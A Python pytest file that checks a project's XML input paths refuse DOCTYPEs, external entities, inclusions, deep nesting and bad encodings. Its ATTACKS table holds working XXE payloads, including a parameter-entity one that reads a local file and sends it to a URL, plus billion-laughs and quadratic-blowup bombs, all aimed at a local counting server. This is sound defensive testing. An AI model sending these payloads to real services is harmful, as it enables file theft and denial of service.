"""XML from outside can open no file, reach no address and fill no memory, by whichever door it comes."""

from __future__ import annotations

import http.server
import threading
import time
import tracemalloc

import pytest
from lxml import etree

from letterbook.check import check
from letterbook.check.schematron import check_rules
from letterbook.check.xsd import check_schema
from letterbook.publish.saxon import SaxonFault, transform_text
from letterbook.xml_input.parse import parse

SECRET = "the-secret-of-this-file"  # noqa: S105 (a word to be looked for)

IDENTITY = (
    '<xsl:stylesheet version="3.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">'
    '<xsl:mode on-no-match="shallow-copy"/></xsl:stylesheet>'
)


class _Counting(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.server.asked.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b'<!ENTITY x "from the net">')

    def log_message(self, *_):
        pass


@pytest.fixture(scope="module")
def net():
    """Serve on a port of this machine, and remember what was asked for."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Counting)
    server.asked = []
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join()


def laughs(depth, times):
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * times}">' for n in range(1, depth))
    return f'<!DOCTYPE a [<!ENTITY l0 "lol">{entities}]><a>&l{depth - 1};</a>'


SENDER = """<!DOCTYPE a [<!ENTITY % f SYSTEM "{file}"><!ENTITY % p "<!ENTITY &#37; s SYSTEM '{net}/?%f;'>">
%p;%s;]><a/>"""

ATTACKS = {
    "external entity": '<!DOCTYPE a [<!ENTITY x SYSTEM "{file}">]><a>&x;</a>',
    "external entity from the net": '<!DOCTYPE a [<!ENTITY x SYSTEM "{net}/x">]><a>&x;</a>',
    "entity in a default": '<!DOCTYPE a [<!ENTITY x SYSTEM "{file}"><!ATTLIST a b CDATA "&x;">]><a/>',
    "external DTD": '<!DOCTYPE a SYSTEM "{file}"><a/>',
    "external DTD from the net": '<!DOCTYPE a SYSTEM "{net}/a.dtd"><a>&x;</a>',
    "public DTD": '<!DOCTYPE a PUBLIC "-//X//Y//EN" "{net}/a.dtd"><a/>',
    "parameter entity": '<!DOCTYPE a [<!ENTITY % p SYSTEM "{net}/p.dtd">%p;]><a>&x;</a>',
    "parameter entity that sends a file": SENDER,
    "billion laughs": laughs(12, 10),
    "quadratic blow-up": f'<!DOCTYPE a [<!ENTITY x "{"x" * 50_000}">]><a>{"&x;" * 50_000}</a>',
    "entity within itself": '<!DOCTYPE a [<!ENTITY x "&y;"><!ENTITY y "&x;">]><a>&x;</a>',
    "internal entity": '<!DOCTYPE a [<!ENTITY x "harmless">]><a>&x;</a>',
    "a DOCTYPE that does nothing": "<!DOCTYPE a><a/>",
}  # fmt: skip


@pytest.fixture(params=ATTACKS, ids=str)
def attack(request, tmp_path, net):
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    address = f"http://127.0.0.1:{net.server_address[1]}"
    net.asked.clear()
    yield ATTACKS[request.param].replace("{file}", secret.as_uri()).replace("{net}", address).encode()
    assert net.asked == []


@pytest.fixture
def little():
    """Fail if what is done meanwhile takes long or much memory."""
    tracemalloc.start()
    began = time.monotonic()
    yield
    taken, most = time.monotonic() - began, tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert taken < 10  # a bomb takes hours
    assert most < 50_000_000


@pytest.mark.usefixtures("little")
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_the_parser_refuses_every_doctype(attack, encoding):
    root, (problem,) = parse(attack.decode().encode(encoding), "f.xml")
    assert root is None
    # In UTF-16 the parser sees the DOCTYPE first, and its own limits may speak before ours.
    assert problem.code == "xml-doctype" or (encoding == "utf-16" and problem.code.startswith("xml-"))
    assert SECRET not in str(problem)
    assert "from the net" not in str(problem)


@pytest.mark.usefixtures("little")
def test_saxon_refuses_every_doctype(attack, capfd):
    with pytest.raises(SaxonFault) as caught:
        transform_text(IDENTITY, attack)
    assert SECRET not in caught.value.message
    assert SECRET not in "".join(capfd.readouterr())


@pytest.mark.usefixtures("little")
def test_the_rules_refuse_every_doctype_though_somebody_else_parsed_it(attack):
    root = etree.fromstring("<a/>")
    with pytest.raises(SaxonFault):
        check_rules(attack, root, "f.xml")


INCLUDES = [
    '<?xml-stylesheet type="text/xsl" href="{net}/s.xsl"?><?xml-model href="{net}/m.rng"?>{tei}',
    "{tei_located}",
    '{tei_open}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{file}" parse="text"/></TEI>',
]


@pytest.mark.parametrize("template", INCLUDES)
def test_what_a_document_names_is_not_fetched(template, tmp_path, net):
    """Stylesheets, schemas, schema locations and inclusions are words in the document, and stay so."""
    secret = tmp_path / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    address = f"http://127.0.0.1:{net.server_address[1]}"
    tei = '<TEI xmlns="http://www.tei-c.org/ns/1.0">'
    located = (
        '<TEI xmlns="http://www.tei-c.org/ns/1.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
        f' xsi:schemaLocation="http://www.tei-c.org/ns/1.0 {address}/tei.xsd"/>'
    )
    text = template.replace("{tei_located}", located).replace("{tei_open}", tei)
    text = text.replace("{tei}", f"{tei}</TEI>").replace("{net}", address).replace("{file}", secret.as_uri())
    net.asked.clear()
    root, faults = parse(text.encode(), "f.xml")
    assert faults == ()
    problems = check(text.encode(), root, "f.xml")
    assert "tei-invalid" in {p.code for p in problems}
    assert not any(SECRET in str(p) for p in problems)
    assert net.asked == []


def test_what_explains_a_fault_reads_no_file(tmp_path):
    """xmlschema is handed elements and a schema of ours; a name or value in them opens nothing."""
    secret = tmp_path / "secret.xsd"
    secret.write_text(SECRET, encoding="utf-8")
    text = f'<TEI xmlns="http://www.tei-c.org/ns/1.0"><text when="{secret.as_uri()}"/></TEI>'
    problems = check_schema(parse(text.encode(), "f.xml").value, "f.xml")
    assert problems
    assert not any(SECRET in str(p) for p in problems)


@pytest.mark.usefixtures("little")
@pytest.mark.parametrize("depth", [300, 100_000])
def test_deep_nesting_is_refused_at_every_door(depth):
    data = b"<a>" * depth + b"</a>" * depth
    assert [p.code for p in parse(data, "f.xml").problems] == ["xml-deep"]


def test_saxon_refuses_what_is_too_deep_for_it():
    data = b"<a>" * 100_000 + b"</a>" * 100_000
    with pytest.raises(SaxonFault):
        transform_text(IDENTITY, data)


def test_bytes_that_are_not_utf_8_are_refused_at_every_door():
    data = b'<?xml version="1.0" encoding="UTF-8"?><a>\xe9t\xe9</a>'
    assert [p.code for p in parse(data, "f.xml").problems] == ["xml-encoding"]
    with pytest.raises(SaxonFault, match="not UTF-8"):
        transform_text(IDENTITY, data)


def test_a_large_file_is_refused_unread(monkeypatch):
    monkeypatch.setattr("letterbook.xml_input.parse.MAX_BYTES", 1_000)
    monkeypatch.setattr(etree, "fromstring", None)  # it is not called
    assert [p.code for p in parse(b"<a>" + b" " * 1_000, "f.xml").problems] == ["xml-large"]
